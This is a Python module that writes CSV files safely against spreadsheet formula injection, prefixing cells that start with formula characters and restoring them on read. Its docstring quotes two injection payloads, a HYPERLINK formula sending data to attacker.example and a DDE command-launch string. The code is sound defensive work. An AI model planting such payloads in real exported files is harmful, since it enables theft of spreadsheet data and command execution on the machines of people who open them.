"""CSV files that a spreadsheet opens as data, never as formulas: the one writer every CSV output uses.

A cell such as ``=HYPERLINK("http://attacker.example/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` in a
customer or tenant name becomes a live formula when the file is opened in Excel or LibreOffice. The
OWASP practice is followed: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (also after leading spaces or line breaks, which spreadsheets trim, and in their full-width
forms, which some spreadsheets read as the ASCII ones) gets a leading ``'`` so it is shown as text.

Two kinds of cell keep their first character: plain negative numbers (``-3`` is a number in every
spreadsheet, not a formula) and, in the columns a writer names as E.164 columns, numbers that are
exactly E.164 (``+442079460958``): their ``+`` is what the importing system needs.

The prefix is reversible without ambiguity (a cell that already starts with ``'`` before a risky
character is prefixed once more), so readers of our own files, such as ``resume`` reading a results
file, get every value back exactly with :func:`restore_cell`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Mapping, Sequence
from typing import IO, Any

TEXT_PREFIX = "'"
# ASCII and full-width forms of the characters that start a formula, plus the control characters that
# spreadsheets trim before looking at the first character.
_FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_TRIMMED = " \t\r\n\x0b\x0c"
_NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?")
_E164 = re.compile(r"\+[1-9]\d{1,14}")


def _starts_formula(text: str) -> bool:
    if not text:
        return False
    if text[0] in _FORMULA_STARTS:
        return not _NEGATIVE_NUMBER.fullmatch(text)
    stripped = text.lstrip(_TRIMMED)
    return stripped != text and stripped[:1] in _FORMULA_STARTS


def _needs_prefix(text: str) -> bool:
    """Whether a spreadsheet could read the cell as a formula, or it would read back ambiguously."""
    if text.startswith(TEXT_PREFIX):
        return _needs_prefix(text[len(TEXT_PREFIX):])
    return _starts_formula(text)


def neutralise_cell(value: object, *, e164: bool = False) -> str:
    """The cell as a spreadsheet must see it: text, never a formula.

    ``e164``: the cell's column holds E.164 numbers; a value that is exactly E.164 keeps its ``+``.
    """
    text = "" if value is None else str(value)
    if e164 and _E164.fullmatch(text):
        return text
    return TEXT_PREFIX + text if _needs_prefix(text) else text


def restore_cell(text: str) -> str:
    """The value :func:`neutralise_cell` was given (for cells it prefixed; others come back as they are)."""
    if text.startswith(TEXT_PREFIX) and _needs_prefix(text[len(TEXT_PREFIX):]):
        return text[len(TEXT_PREFIX):]
    return text


def restore_row(row: Mapping[str, str | None]) -> dict[str, str]:
    """A ``csv.DictReader`` row of one of our files with every cell restored (missing cells empty)."""
    return {key: restore_cell(value or "") for key, value in row.items() if key is not None}


class _LineSafeWriter:
    """``csv.writer`` that also quotes a lone CR or LF when the line terminator does not contain it.

    Python's writer quotes only the line terminator's own characters, so with ``lineterminator="\\n"``
    a ``\\r`` inside a cell would be written bare and read back as a line break. Such rows are
    written with every field quoted, which every CSV reader understands.
    """

    def __init__(self, handle: IO[str], **fmtparams: Any) -> None:
        self._plain = csv.writer(handle, **fmtparams)
        self._quoted = csv.writer(handle, **{**fmtparams, "quoting": csv.QUOTE_ALL})
        self._breaks = frozenset("\r\n") - frozenset(self._plain.dialect.lineterminator)

    def writerow(self, cells: Sequence[str]) -> None:
        risky = self._breaks and any(not self._breaks.isdisjoint(cell) for cell in cells)
        (self._quoted if risky else self._plain).writerow(cells)


class FormulaSafeWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise_cell`.

    ``header`` is written at once; ``e164_columns`` names the header's columns validated as E.164.
    """

    def __init__(
        self, handle: IO[str], header: Sequence[str], *, e164_columns: Collection[str] = (), **fmtparams: Any
    ) -> None:
        unknown = set(e164_columns) - set(header)
        if unknown:
            raise ValueError(f"E.164 columns not in the header: {sorted(unknown)}")
        self._writer = _LineSafeWriter(handle, **fmtparams)
        self._e164 = tuple(column in e164_columns for column in header)
        self._width = len(header)
        self._writer.writerow([neutralise_cell(column) for column in header])

    def writerow(self, row: Sequence[object]) -> None:
        if len(row) != self._width:
            raise ValueError(f"a row of {len(row)} cells for {self._width} columns")
        self._writer.writerow([neutralise_cell(value, e164=e164) for value, e164 in zip(row, self._e164, strict=True)])

    def writerows(self, rows: Iterable[Sequence[object]]) -> None:
        for row in rows:
            self.writerow(row)


class FormulaSafeDictWriter:
    """``csv.DictWriter``'s interface (``writeheader``, ``writerow``, ``writerows``) over the same rule.

    Keys missing from a row are written empty; a key not in ``fieldnames`` is an error, as in DictWriter.
    """

    def __init__(
        self, handle: IO[str], fieldnames: Sequence[str], *, e164_columns: Collection[str] = (), **fmtparams: Any
    ) -> None:
        self.fieldnames = tuple(fieldnames)
        self._e164 = frozenset(e164_columns)
        self._writer = _LineSafeWriter(handle, **fmtparams)

    def writeheader(self) -> None:
        self._writer.writerow([neutralise_cell(name) for name in self.fieldnames])

    def writerow(self, row: Mapping[str, object]) -> None:
        extra = [key for key in row if key not in self.fieldnames]
        if extra:
            raise ValueError(f"dict contains fields not in fieldnames: {', '.join(map(repr, extra))}")
        self._writer.writerow(
            [neutralise_cell(row.get(name, ""), e164=name in self._e164) for name in self.fieldnames]
        )

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)
